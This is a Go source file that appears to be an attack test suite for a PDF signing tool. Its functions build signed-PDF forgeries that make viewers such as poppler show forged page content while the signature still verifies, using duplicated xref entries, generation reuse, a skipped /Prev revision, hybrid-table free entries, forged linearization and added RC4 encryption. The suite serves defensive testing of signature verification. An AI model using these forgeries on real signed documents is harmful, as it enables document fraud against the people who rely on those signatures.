package attacksuite

import (
	"bytes"
	"crypto/md5"
	"crypto/rc4"
	"encoding/binary"
	"errors"
	"fmt"
	"regexp"
	"strconv"
	"strings"

	"github.com/kyso-vn/kyso/internal/testpdf"
	"github.com/kyso-vn/kyso/signer/pades"
)

// ClassStructure: attacks on how the file is read — where kyso's reading
// of the revisions and their objects could differ from a viewer's
// (cross-reference sections, linearization, object numbers and
// generations, encryption added later).
const ClassStructure Class = "file structure"

// structure builds the file-structure attacks on kyso's plain signed
// dossier. Each changes what poppler shows on page 1, or what it reads
// the signature to be, without changing a signed byte.
func structure(p *PKI, b *Base) ([]Case, error) {
	if b.Name != "kyso B-T" {
		return nil, nil
	}
	return collect(
		func() ([]Case, error) {
			// An honest linearized file, signed: its /L is no longer the
			// file's length, and both its tables lead to the same page.
			unsigned := linearizedPage(0, false)
			doc, err := p.Sign(linearizedPage(len(unsigned), false), p.Official, pades.Options{Level: pades.LevelBT})
			if err != nil {
				return nil, fmt.Errorf("linearized control: %w", err)
			}
			return []Case{{Name: "linearized file signed / " + b.Name, Class: ClassControl, Base: b, PDF: doc, Evidence: Evidence{Page: 1}}}, nil
		},
		func() ([]Case, error) {
			// An unused stream whose data names an object definition in
			// the middle of a line: no reader rebuilding the table line
			// by line takes it for one.
			page, err := PageOf(b.PDF, 1)
			if err != nil {
				return nil, err
			}
			n, err := Size(b.PDF)
			if err != nil {
				return nil, err
			}
			doc, err := Append(b.PDF, Update{Objects: map[int]string{n: Stream("", fmt.Sprintf("(see %d 0 obj and the trailer) Tj", page.Contents))}})
			if err != nil {
				return nil, fmt.Errorf("mid-line control: %w", err)
			}
			return []Case{{Name: "unused stream naming a definition mid-line / " + b.Name, Class: ClassControl, Base: b, PDF: doc, Evidence: Evidence{Page: 1}}}, nil
		},
		func() ([]Case, error) {
			doc, err := linearizedForgery(p, false)
			return attack(ClassStructure, b, "linearized: /L made the file's length by padding after the signature, viewers read the first-page table", doc, err,
				Evidence{Shows: ForgedText, Hides: b.Marker})
		},
		func() ([]Case, error) {
			doc, err := linearizedForgery(p, true)
			return attack(ClassStructure, b, "linearized: /L is the signed file's length, viewers read the first-page table", doc, err,
				Evidence{Shows: ForgedText, Hides: b.Marker})
		},
		func() ([]Case, error) {
			doc, err := listedTwice(b.PDF, false, true)
			return attack(ClassStructure, b, "page content listed twice in one table, the forged entry first", doc, err,
				Evidence{Shows: ForgedText, Hides: b.Marker})
		},
		func() ([]Case, error) {
			doc, err := listedTwice(b.PDF, true, true)
			return attack(ClassStructure, b, "page content listed twice in one xref stream's /Index, the forged entry first", doc, err,
				Evidence{Shows: ForgedText, Hides: b.Marker})
		},
		func() ([]Case, error) {
			// Readers take the first entry, the signed object: the
			// forged definition is dead, but a viewer that repairs the
			// file takes it.
			doc, err := listedTwice(b.PDF, true, false)
			return attack(ClassStructure, b, "page content listed twice in one xref stream's /Index, the signed entry first", doc, err, Evidence{})
		},
		func() ([]Case, error) {
			doc, err := generation(b.PDF, false)
			return attack(ClassStructure, b, "page content redefined as generation 1, the page still naming generation 0", doc, err,
				Evidence{Hides: b.Marker, Renders: true})
		},
		func() ([]Case, error) {
			doc, err := generation(b.PDF, true)
			return attack(ClassStructure, b, "page content redefined as generation 1 and the page pointed at it", doc, err,
				Evidence{Shows: ForgedText, Hides: b.Marker})
		},
		func() ([]Case, error) {
			// The update's /Prev names the table of the document before it
			// was signed: viewers no longer see the signature's revision,
			// nor the signature.
			before, err := readInfo(testpdf.Make(2, 2000))
			if err != nil {
				return nil, err
			}
			page, err := PageOf(b.PDF, 1)
			if err != nil {
				return nil, err
			}
			doc, err := Append(b.PDF, Update{Objects: map[int]string{page.Contents: Stream("", forgedContent("F1"))}, Prev: &before.startxref})
			return attack(ClassStructure, b, "update whose /Prev skips the signature's revision", doc, err,
				Evidence{Shows: ForgedText, Hides: b.Marker})
		},
		func() ([]Case, error) {
			doc, err := cutInObjectStream(b.PDF, false)
			return attack(ClassStructure, b, "page dictionary rewritten unchanged in an object stream whose next object starts before its /Contents", doc, err,
				Evidence{Hides: b.Marker})
		},
		func() ([]Case, error) {
			doc, err := cutInObjectStream(b.PDF, true)
			return attack(ClassStructure, b, "page dictionary rewritten unchanged in an object stream whose offsets decrease", doc, err,
				Evidence{Hides: b.Marker})
		},
		func() ([]Case, error) {
			doc, err := rebuiltByPoppler(b.PDF)
			return attack(ClassStructure, b, "forged page content hidden in an unused stream, trailer /Info naming a missing object", doc, err,
				Evidence{Shows: ForgedText, Hides: b.Marker})
		},
		func() ([]Case, error) {
			doc, err := freeInTableInUseInStream(b.PDF, true)
			return attack(ClassStructure, b, "forged page content hidden in an unused stream, page content free in a hybrid table and in use in its /XRefStm", doc, err,
				Evidence{Shows: ForgedText, Hides: b.Marker})
		},
		func() ([]Case, error) {
			doc, err := higherGenerationFirst(b.PDF)
			return attack(ClassStructure, b, "page content free in a hybrid table, a generation-1 definition before a copy of the signed one", doc, err,
				Evidence{Hides: b.Marker})
		},
		func() ([]Case, error) {
			doc, err := hiddenCatalog(b.PDF)
			return attack(ClassStructure, b, "catalog free in a hybrid table, a forged document and trailer hidden in an unused stream", doc, err,
				Evidence{Shows: ForgedText, Hides: b.Marker})
		},
		func() ([]Case, error) {
			doc, err := plainBeforePacked(b.PDF)
			return attack(ClassStructure, b, "page dictionary free in a hybrid table and packed unchanged, a forged plain definition before it", doc, err,
				Evidence{Shows: ForgedText, Hides: b.Marker})
		},
		func() ([]Case, error) {
			doc, err := plainBeforePackedDirectRoot(b.PDF)
			return attack(ClassStructure, b, "page dictionary packed unchanged after a forged plain definition, the trailer's /Root a direct catalog", doc, err,
				Evidence{Shows: ForgedText, Hides: b.Marker})
		},
		func() ([]Case, error) {
			doc, err := plainBeforePackedUnknownType(b.PDF)
			return attack(ClassStructure, b, "page dictionary packed unchanged after a forged plain definition, an unused entry of type 3 in the /XRefStm stream", doc, err,
				Evidence{Shows: ForgedText, Hides: b.Marker})
		},
		func() ([]Case, error) {
			doc, err := encryptedLater(b.PDF)
			return attack(ClassStructure, b, "/Encrypt (RC4, empty user password) added by an update", doc, err, Evidence{Hides: b.Marker, Renders: true})
		},
	)
}

// listedTwice appends to doc a forged definition of page 1's content and
// a cross-reference section (a table, or a stream if stream) that lists
// that object twice: the forged definition first if forgedFirst, else the
// signed one first. qpdf and poppler take the first entry of a section.
func listedTwice(doc []byte, stream, forgedFirst bool) ([]byte, error) {
	in, err := readInfo(doc)
	if err != nil {
		return nil, err
	}
	page, err := PageOf(doc, 1)
	if err != nil {
		return nil, err
	}
	signedAt := bytes.LastIndex(doc, fmt.Appendf(nil, "\n%d 0 obj", page.Contents)) + 1
	if signedAt == 0 {
		return nil, errors.New("page 1's content is not a plain object")
	}
	var b bytes.Buffer
	b.Write(doc)
	forgedAt := b.Len()
	fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", page.Contents, Stream("", forgedContent("F1")))
	at := []int{forgedAt, signedAt}
	if !forgedFirst {
		at = []int{signedAt, forgedAt}
	}
	x := b.Len()
	if !stream {
		fmt.Fprintf(&b, "xref\n%d 1\n%010d 00000 n\r\n%d 1\n%010d 00000 n\r\ntrailer\n<< /Size %d /Root %s%s /Prev %d >>\nstartxref\n%d\n%%%%EOF\n",
			page.Contents, at[0], page.Contents, at[1], in.size, in.root, in.extra, in.startxref, x)
		return b.Bytes(), nil
	}
	var rows bytes.Buffer
	for _, off := range []int{at[0], at[1], x} {
		row := [7]byte{1}
		binary.BigEndian.PutUint32(row[1:5], uint32(off))
		rows.Write(row[:])
	}
	fmt.Fprintf(&b, "%d 0 obj\n<< /Type /XRef /Size %d /Root %s%s /Prev %d /W [1 4 2] /Index [%d 1 %d 1 %d 1] /Length %d >>\nstream\n",
		in.size, in.size+1, in.root, in.extra, in.startxref, page.Contents, page.Contents, in.size, rows.Len())
	b.Write(rows.Bytes())
	fmt.Fprintf(&b, "\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n", x)
	return b.Bytes(), nil
}

// generation appends to doc an update that redefines page 1's content as
// generation 1 (ISO 32000-1, 7.3.10: the object was deleted and its number
// reused). The page still names generation 0, which no longer exists:
// poppler draws nothing. With repoint, the page is redefined to name
// generation 1, and viewers draw the forged content.
func generation(doc []byte, repoint bool) ([]byte, error) {
	in, err := readInfo(doc)
	if err != nil {
		return nil, err
	}
	page, err := PageOf(doc, 1)
	if err != nil {
		return nil, err
	}
	var b bytes.Buffer
	b.Write(doc)
	contentAt := b.Len()
	fmt.Fprintf(&b, "%d 1 obj\n%s\nendobj\n", page.Contents, Stream("", forgedContent("F1")))
	table := fmt.Sprintf("%d 1\n%010d 00001 n\r\n", page.Contents, contentAt)
	if repoint {
		body, err := withContents(page.Body, fmt.Sprintf("%d 1 R", page.Contents))
		if err != nil {
			return nil, err
		}
		pageAt := b.Len()
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", page.ID, body)
		table += fmt.Sprintf("%d 1\n%010d 00000 n\r\n", page.ID, pageAt)
	}
	x := b.Len()
	fmt.Fprintf(&b, "xref\n%strailer\n<< /Size %d /Root %s%s /Prev %d >>\nstartxref\n%d\n%%%%EOF\n", table, in.size, in.root, in.extra, in.startxref, x)
	return b.Bytes(), nil
}

// cutInObjectStream appends to doc an update (a cross-reference stream)
// that redefines page 1 with the same dictionary, /Contents last, in an
// object stream that also holds an unused object. poppler and pdf.js read
// each object of an object stream only up to the next object's offset,
// and reject a stream whose offsets decrease; qpdf reads each object from
// its offset to its end. With the unused object's offset at /Contents,
// poppler reads the page without /Contents; with decreasing offsets
// (decrease), without the page. Either way page 1 is blank, while the
// page dictionary as written is the signed one.
func cutInObjectStream(doc []byte, decrease bool) ([]byte, error) {
	page, err := PageOf(doc, 1)
	if err != nil {
		return nil, err
	}
	n, err := Size(doc)
	if err != nil {
		return nil, err
	}
	re := regexp.MustCompile(`/Contents\s*[0-9]+\s+[0-9]+\s+R`)
	contents := re.FindString(page.Body)
	end := strings.LastIndex(page.Body, ">>")
	if contents == "" || end < 0 {
		return nil, errors.New("page 1 has no /Contents reference")
	}
	body := re.ReplaceAllLiteralString(page.Body[:end], "") + contents + " >>"
	var head, data string
	if decrease {
		// The unused object first in the data, listed second.
		unused := "<< /Unused true >>\n"
		head = fmt.Sprintf("%d %d %d 0\n", page.ID, len(unused), n)
		data = unused + body + "\n"
	} else {
		head = fmt.Sprintf("%d 0 %d %d\n", page.ID, n, strings.LastIndex(body, contents))
		data = body + "\n"
	}
	return Append(doc, Update{Form: XRefStream, Packed: map[int]string{page.ID: "", n: ""},
		ObjStmDict: fmt.Sprintf("/N 2 /First %d", len(head)), ObjStmData: []byte(head + data)})
}

// rebuiltByPoppler appends to doc a classic update that adds an unused
// stream whose data holds, on lines of their own, a definition of page
// 1's content stream showing the forged text, and whose trailer's /Info
// names an object no section defines. ISO 32000-1 reads that reference as
// null, as qpdf does. poppler, when a fetch fails in a file whose newest
// section is a table, rebuilds the table from every "N G obj" at the start
// of a line — inside stream data too, a later one winning — and pdftotext
// and pdftoppm fetch /Info when they open the file: they show the forged
// page, and pdfsig the signature as valid.
func rebuiltByPoppler(doc []byte) ([]byte, error) {
	carrier, _, err := hiddenContent(doc)
	if err != nil {
		return nil, err
	}
	n, err := Size(doc)
	if err != nil {
		return nil, err
	}
	out, err := Append(doc, Update{Objects: map[int]string{n: carrier}})
	if err != nil {
		return nil, err
	}
	at := bytes.LastIndex(out, []byte("trailer\n<< "))
	if at < 0 {
		return nil, errors.New("no trailer in the update")
	}
	at += len("trailer\n<< ")
	info := fmt.Sprintf("/Info %d 0 R ", n+1000)
	if bytes.Contains(out[at:], []byte("/Info ")) {
		return nil, errors.New("the trailer already has /Info")
	}
	return append(append(bytes.Clone(out[:at]), info...), out[at:]...), nil
}

// hiddenContent returns an unused stream object whose data holds, on
// lines of their own, a definition of doc's page 1 content stream showing
// the forged text: dead to a reader that parses the stream as a stream,
// a definition to one that rebuilds the table line by line, as poppler
// does (XRef::constructXRef).
func hiddenContent(doc []byte) (string, Page, error) {
	page, err := PageOf(doc, 1)
	if err != nil {
		return "", page, err
	}
	return Stream("", fmt.Sprintf("\n%d 0 obj\n%s\nendobj\n", page.Contents, Stream("", forgedContent("F1")))), page, nil
}

// freeInTableInUseInStream appends to doc a hybrid-reference update whose
// table marks page 1's content stream free and whose /XRefStm stream
// lists it in use where it is, the signed definition, next to
// hiddenContent (if hide; an unused dictionary otherwise). qpdf, and kyso as qpdf, read a table's in-use entries,
// then its stream, then its free entries: the signed content. poppler
// reads the whole table before the stream, so the object is free; fetching
// it fails, and poppler rebuilds the table line by line, finding the
// forged definition in the unused stream.
func freeInTableInUseInStream(doc []byte, hide bool) ([]byte, error) {
	carrier, page, err := hiddenContent(doc)
	if err != nil {
		return nil, err
	}
	if !hide {
		carrier = "<< /Unused true >>"
	}
	head := fmt.Appendf(nil, "\n%d 0 obj", page.Contents)
	signedAt := bytes.LastIndex(doc, head)
	if signedAt < 0 {
		return nil, errors.New("page 1's content is not a plain object")
	}
	n, err := Size(doc)
	if err != nil {
		return nil, err
	}
	out, err := Append(doc, Update{Form: Hybrid, Objects: map[int]string{n: carrier}, Remap: map[int]int64{page.Contents: int64(signedAt + 1)}})
	if err != nil {
		return nil, err
	}
	return freeInLastTable(out, page.Contents)
}

// higherGenerationFirst appends to doc freeInTableInUseInStream's update
// with no hidden content, and after it a definition of page 1's content
// as generation 1, then a copy of the signed definition (generation 0),
// which no section lists. A rebuild that takes the last definition (kyso's
// scan, qpdf's) reads the signed content; poppler's keeps the higher
// generation, and the page's "4 0 R" then names nothing: page 1 is blank.
func higherGenerationFirst(doc []byte) ([]byte, error) {
	page, err := PageOf(doc, 1)
	if err != nil {
		return nil, err
	}
	signed, err := ObjectBody(doc, page.Contents)
	if err != nil {
		return nil, err
	}
	out, err := freeInTableInUseInStream(doc, false)
	if err != nil {
		return nil, err
	}
	return fmt.Appendf(out, "%d 1 obj\n%s\nendobj\n%d 0 obj\n%s\nendobj\n", page.Contents, Stream("", forgedContent("F1")), page.Contents, signed), nil
}

// hiddenCatalog appends to doc a hybrid-reference update whose table
// marks the catalog free while its /XRefStm stream lists the catalog in
// use where it is, and after it an unused stream whose data holds, on
// lines of their own, a forged one-page document (catalog, page tree,
// page, content, numbered from 9001) and a trailer naming its catalog.
// qpdf and kyso read the signed document. poppler, failing to fetch the
// free catalog, rebuilds the table line by line before it reads the
// catalog, takes the last trailer's /Root, the hidden one, and shows the
// forged document.
func hiddenCatalog(doc []byte) ([]byte, error) {
	root, err := RootID(doc)
	if err != nil {
		return nil, err
	}
	signedAt := bytes.LastIndex(doc, fmt.Appendf(nil, "\n%d 0 obj", root))
	if signedAt < 0 {
		return nil, errors.New("the catalog is not a plain object")
	}
	n, err := Size(doc)
	if err != nil {
		return nil, err
	}
	out, err := Append(doc, Update{Form: Hybrid, Objects: map[int]string{n: "<< /Unused true >>"}, Remap: map[int]int64{root: int64(signedAt + 1)}})
	if err != nil {
		return nil, err
	}
	if out, err = freeInLastTable(out, root); err != nil {
		return nil, err
	}
	forged := strings.Join([]string{
		"9001 0 obj\n<< /Type /Catalog /Pages 9002 0 R >>\nendobj",
		"9002 0 obj\n<< /Type /Pages /Kids [9003 0 R] /Count 1 >>\nendobj",
		"9003 0 obj\n<< /Type /Page /Parent 9002 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 9005 0 R >> >> /Contents 9004 0 R >>\nendobj",
		"9004 0 obj\n" + Stream("", forgedContent("F1")) + "\nendobj",
		"9005 0 obj\n<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>\nendobj",
		"trailer\n<< /Size 9006 /Root 9001 0 R >>",
	}, "\n")
	return fmt.Appendf(out, "%d 0 obj\n%s\nendobj\n", n+2, Stream("", "\n"+forged+"\n")), nil
}

// plainBeforePacked appends to doc, after its last %%EOF and without a
// section of its own, a forged definition of page 1's dictionary (and the
// content it points to), then a hybrid-reference update that rewrites the
// page unchanged in an object stream, listed by its /XRefStm stream, while
// its table marks the page free. kyso's reading and its scan (an object of
// an object stream counts where its stream is, after the forged one), as
// qpdf's, give the signed page. poppler, failing to fetch the free page,
// rebuilds the table from the plain definitions only, and shows the forged
// page.
func plainBeforePacked(doc []byte) ([]byte, error) {
	out, page, err := plainThenPacked(doc, nil)
	if err != nil {
		return nil, err
	}
	return freeInLastTable(out, page.ID)
}

// plainBeforePackedDirectRoot is plainBeforePacked with no free entry, the
// update's trailer giving the catalog as a direct dictionary (the signed
// one, by value) instead of a reference: poppler then rebuilds the table
// (a /Root that is not a reference is damage to it) from the plain
// definitions, and shows the forged page.
func plainBeforePackedDirectRoot(doc []byte) ([]byte, error) {
	root, err := RootID(doc)
	if err != nil {
		return nil, err
	}
	cat, err := ObjectBody(doc, root)
	if err != nil {
		return nil, err
	}
	out, _, err := plainThenPacked(doc, nil)
	if err != nil {
		return nil, err
	}
	ref := fmt.Appendf(nil, "/Root %d 0 R", root)
	i := bytes.LastIndex(out, ref)
	if i < 0 {
		return nil, errors.New("no /Root in the update's trailer")
	}
	direct := "/Root " + strings.Join(strings.Fields(cat), " ")
	return append(append(bytes.Clone(out[:i]), direct...), out[i+len(ref):]...), nil
}

// plainBeforePackedUnknownType is plainBeforePacked with no free entry,
// the /XRefStm stream listing besides an unused object with type 3, which
// ISO 32000-1 (7.5.8.3) reads as null: poppler rejects the whole stream,
// rebuilds the table from the plain definitions and shows the forged page.
func plainBeforePackedUnknownType(doc []byte) ([]byte, error) {
	n, err := Size(doc)
	if err != nil {
		return nil, err
	}
	unused := n + 20
	out, _, err := plainThenPacked(doc, map[int]string{unused: "<< /Unused true >>"})
	if err != nil {
		return nil, err
	}
	m := regexp.MustCompile(`/Index \[([0-9 ]+)\] /Length [0-9]+ >>\nstream\n`).FindAllSubmatchIndex(out, -1)
	if len(m) == 0 {
		return nil, errors.New("no /XRefStm stream in the update")
	}
	last := m[len(m)-1]
	index := strings.Fields(string(out[last[2]:last[3]]))
	for k := 0; k+1 < len(index); k += 2 {
		if index[k] == strconv.Itoa(unused) {
			out[last[1]+7*(k/2)] = 3 // the row's type byte (/W [1 4 2])
			return out, nil
		}
	}
	return nil, errors.New("the unused object is not in the /XRefStm stream")
}

// plainThenPacked appends plainBeforePacked's forged definitions and
// hybrid update, without the free entry, the /XRefStm stream also listing
// hidden.
func plainThenPacked(doc []byte, hidden map[int]string) ([]byte, Page, error) {
	page, err := PageOf(doc, 1)
	if err != nil {
		return nil, page, err
	}
	in, err := readInfo(doc)
	if err != nil {
		return nil, page, err
	}
	n := in.size
	forged, err := withContents(page.Body, fmt.Sprintf("%d 0 R", n+10))
	if err != nil {
		return nil, page, err
	}
	pre := fmt.Appendf(bytes.Clone(doc), "%d 0 obj\n%s\nendobj\n%d 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n",
		page.ID, forged, n+10, Stream("", forgedContent("F1")), in.startxref)
	out, err := Append(pre, Update{Form: Hybrid, Packed: map[int]string{page.ID: page.Body}, Hidden: hidden})
	return out, page, err
}

// passwordPad is the padding of ISO 32000-1, 7.6.3.3, Algorithm 2.
var passwordPad = []byte("\x28\xbf\x4e\x5e\x4e\x75\x8a\x41\x64\x00\x4e\x56\xff\xfa\x01\x08\x2e\x2e\x00\xb6\xd0\x68\x3e\x80\x2f\x0c\xa9\xfe\x64\x53\x69\x7a")

// encryptedLater appends to doc an update whose trailer adds /Encrypt: the
// standard security handler, RC4 with a 128-bit key (V 2, R 3), the empty
// user password (ISO 32000-1, 7.6.3.3, Algorithms 2 and 5). Readers then
// decrypt every string and stream of the file, the signed ones too: the
// signed page turns to noise in poppler, which still verifies the
// signature (a signature's /Contents is not encrypted, 7.6.1).
func encryptedLater(doc []byte) ([]byte, error) {
	in, err := readInfo(doc)
	if err != nil {
		return nil, err
	}
	id := []byte("kyso-encrypt-id!")
	extra := in.extra
	if i := strings.Index(extra, " /ID"); i >= 0 {
		extra = extra[:i] // the update gives its own /ID, the key's input
	}
	owner := bytes.Repeat([]byte{0x5a}, 32)
	perms := int32(-4)
	h := md5.New()
	h.Write(passwordPad)
	h.Write(owner)
	h.Write(binary.LittleEndian.AppendUint32(nil, uint32(perms)))
	h.Write(id)
	key := h.Sum(nil)
	for range 50 {
		k := md5.Sum(key[:16])
		key = k[:]
	}
	u := md5.Sum(append(bytes.Clone(passwordPad), id...))
	user := u[:]
	for i := range 20 {
		k := make([]byte, 16)
		for j := range k {
			k[j] = key[j] ^ byte(i)
		}
		c, err := rc4.NewCipher(k)
		if err != nil {
			return nil, err
		}
		c.XORKeyStream(user, user)
	}
	user = append(user, make([]byte, 16)...)
	var b bytes.Buffer
	b.Write(doc)
	n := in.size
	encAt := b.Len()
	fmt.Fprintf(&b, "%d 0 obj\n<< /Filter /Standard /V 2 /R 3 /Length 128 /P %d /O %s /U %s >>\nendobj\n", n, perms, hexString(owner), hexString(user))
	x := b.Len()
	fmt.Fprintf(&b, "xref\n%d 1\n%010d 00000 n\r\ntrailer\n<< /Size %d /Root %s%s /Encrypt %d 0 R /ID [%s %s] /Prev %d >>\nstartxref\n%d\n%%%%EOF\n",
		n, encAt, n+1, in.root, extra, n, hexString(id), hexString(id), in.startxref, x)
	return b.Bytes(), nil
}

// linearizedPage is a one-page document that claims to be linearized
// (ISO 32000-1, Annex F): its first object is a linearization dictionary
// whose /L is l, and the cross-reference table right after it (where a
// linearized file's first-page table stands) lists a forged page content;
// the file's startxref names a second, complete table that lists the
// honest one, defined later. A reader that follows startxref, as the
// standard says, reads the honest page. poppler and pdf.js, when /L is the
// file's length, start at the table after the linearization dictionary's
// endobj instead, and show the forged page.
func linearizedPage(l int, forged bool) []byte {
	const honest = "BT /F1 18 Tf 60 760 Td (Trang 1 / Page 1 - ban goc da ky) Tj ET"
	objs := func(content string) map[int]string {
		return map[int]string{
			2: "<< /Type /Catalog /Pages 3 0 R >>",
			3: "<< /Type /Pages /Kids [5 0 R] /Count 1 >>",
			4: Stream("", content),
			5: "<< /Type /Page /Parent 3 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 6 0 R >> >> /Contents 4 0 R >>",
			6: "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
			7: Stream("/S 64", strings.Repeat("\x00", 96)),
		}
	}
	table := func(at map[int]int) string {
		var t strings.Builder
		t.WriteString("xref\n0 8\n0000000000 65535 f\r\n")
		for id := 1; id <= 7; id++ {
			fmt.Fprintf(&t, "%010d 00000 n\r\n", at[id])
		}
		return t.String()
	}
	var b bytes.Buffer
	b.WriteString("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
	lin := b.Len()
	linDict := func(hint, hintLen int) string {
		return fmt.Sprintf("1 0 obj\n<< /Linearized 1 /L %010d /H [%010d %010d] /O 5 /E 0 /N 1 /T 0 >>\nendobj\n", l, hint, hintLen)
	}
	b.WriteString(linDict(0, 0))
	first := b.Len()
	// Offsets are fixed width: the table is written once its objects'
	// offsets are known.
	firstTrailer := "trailer\n<< /Size 8 /Root 2 0 R >>\nstartxref\n0\n%%EOF\n"
	b.WriteString(table(nil) + firstTrailer)
	forgedAt, honestAt := map[int]int{1: lin}, map[int]int{1: lin}
	for _, def := range []struct {
		at      map[int]int
		content string
	}{{forgedAt, map[bool]string{true: forgedContent("F1"), false: honest}[forged]}, {honestAt, honest}} {
		o := objs(def.content)
		for id := 2; id <= 7; id++ {
			def.at[id] = b.Len()
			fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", id, o[id])
		}
	}
	// The hint stream (object 7) the linearization dictionary's /H names:
	// qpdf checks it.
	hintLen := honestAt[2] - forgedAt[7]
	main := b.Len()
	fmt.Fprintf(&b, "%strailer\n<< /Size 8 /Root 2 0 R /ID [<6b79736f2d6c696e2d646f632d6964><6b79736f2d6c696e2d646f632d6964>] >>\nstartxref\n%d\n%%%%EOF\n", table(honestAt), main)
	out := b.Bytes()
	copy(out[first:], table(forgedAt)+firstTrailer)
	copy(out[lin:], linDict(forgedAt[7], hintLen))
	return out
}

// linearizedForgery has kyso sign linearizedPage and makes the signed
// file's length its /L: exactly, when exact (the signature's size is
// known in advance, so the document the signer is shown already says it),
// or by a comment padding the file after the signature. Before, the file
// is longer than /L is not, so every reader shows the honest page.
func linearizedForgery(p *PKI, exact bool) ([]byte, error) {
	probe, err := p.Sign(linearizedPage(0, true), p.Official, pades.Options{Level: pades.LevelBT})
	if err != nil {
		return nil, err
	}
	l := len(probe)
	if !exact {
		l += 200
	}
	doc, err := p.Sign(linearizedPage(l, true), p.Official, pades.Options{Level: pades.LevelBT})
	if err != nil {
		return nil, err
	}
	pad := l - len(doc)
	switch {
	case exact && pad != 0:
		return nil, fmt.Errorf("the signed file is %d bytes, not the %d of the first signing", len(doc), l)
	case exact:
		return doc, nil
	case pad < 2:
		return nil, errors.New("no room for the padding after the signature")
	}
	return append(doc, "%"+strings.Repeat(" ", pad-2)+"\n"...), nil
}

// freeInLastTable returns doc with a subsection marking object id free
// (generation 1) at the start of its last classic table: a hybrid
// update's table then frees what its /XRefStm stream lists in use.
func freeInLastTable(doc []byte, id int) ([]byte, error) {
	table := bytes.LastIndex(doc, []byte("\nxref\n"))
	if table < 0 {
		return nil, errors.New("no table in the update")
	}
	table += len("\nxref\n")
	return append(append(bytes.Clone(doc[:table]), fmt.Sprintf("%d 1\n0000000000 00001 f\r\n", id)...), doc[table:]...), nil
}
